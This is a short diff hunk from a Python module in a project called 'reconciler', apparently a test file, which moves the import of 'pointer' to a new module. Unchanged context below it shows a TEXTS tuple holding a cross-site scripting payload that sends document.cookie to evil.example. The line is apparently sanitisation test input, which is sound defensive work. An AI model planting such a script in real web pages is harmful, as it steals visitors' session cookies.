@@ -22,7 +22,7 @@ from reconciler.model.plans import (
     Source,
     Summary,
 )
-from reconciler.planning.fields import pointer
+from reconciler.model.terms import pointer
 
 TEXTS = (
     "<script>fetch('https://evil.example/' + document.cookie)</script>",
